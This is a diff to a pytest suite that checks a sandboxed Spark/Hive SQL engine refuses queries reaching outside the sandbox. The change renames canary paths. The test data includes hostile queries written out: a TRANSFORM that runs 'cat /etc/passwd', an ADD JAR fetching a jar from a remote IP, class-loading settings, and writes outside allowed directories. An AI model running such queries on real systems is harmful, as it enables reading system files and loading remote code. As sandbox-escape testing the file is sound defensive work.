@@ -37,12 +37,12 @@ QUERIES = {
     "a program": "SELECT TRANSFORM(1) USING 'cat /etc/passwd'",
     "a function in Hive": "CREATE TEMPORARY FUNCTION f AS 'org.apache.hadoop.hive.ql.udf.UDFLike'",
     "a function in Python": "CREATE TEMPORARY FUNCTION f() RETURNS INT LANGUAGE PYTHON AS 'import os'",
-    "a jar": "ADD JAR '/tmp/evil.jar'",
+    "a jar": "ADD JAR '/tmp/odf-evil-canary.jar'",
     "a jar from the net": "ADD JAR 'http://192.0.2.1/evil.jar'",
     "a setting that loads a class": "SET spark.sql.catalog.evil = org.example.Evil",
     "a catalog": "SELECT * FROM jdbc.`jdbc:h2:mem:`",
     "a table elsewhere": "CREATE TABLE t USING parquet LOCATION '/tmp/t' AS SELECT 1",
-    "files elsewhere": "INSERT OVERWRITE DIRECTORY '/tmp/evil' USING csv SELECT 1",
+    "files elsewhere": "INSERT OVERWRITE DIRECTORY '/tmp/odf-evil-canary' USING csv SELECT 1",
 }
 
 
@@ -98,7 +98,7 @@ def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
 def test_a_query_that_reaches_out_is_refused(world: World, query: str):
     answer = world.engine.sql(SqlRequest(query, (), str(world.out / "result")))
     assert isinstance(answer, TransformResponseInvalidQuery)
-    assert not Path("/tmp/evil").exists()
+    assert not Path("/tmp/odf-evil-canary").exists()
 
 
 def test_code_in_java_sees_the_files_of_its_request_and_no_others(world: World):
@@ -118,7 +118,7 @@ def test_code_in_java_sees_the_files_of_its_request_and_no_others(world: World):
 
 def test_code_in_java_writes_nowhere_else_and_reaches_nobody(world: World):
     write = "jvm.java.io.FileOutputStream({!r})"
-    for place in (world.mine, world.other.with_name("new"), Path("/tmp/evil"), Path.home() / "evil"):
+    for place in (world.mine, world.other.with_name("new"), Path("/tmp/odf-evil-canary"), Path.home() / "evil"):
         answer = world.exploit(write.format(str(place)), reads=(world.mine,))
         assert "Read-only file system" in answer or "No such file" in answer
     with socket.create_server(("127.0.0.1", 0)) as outside:
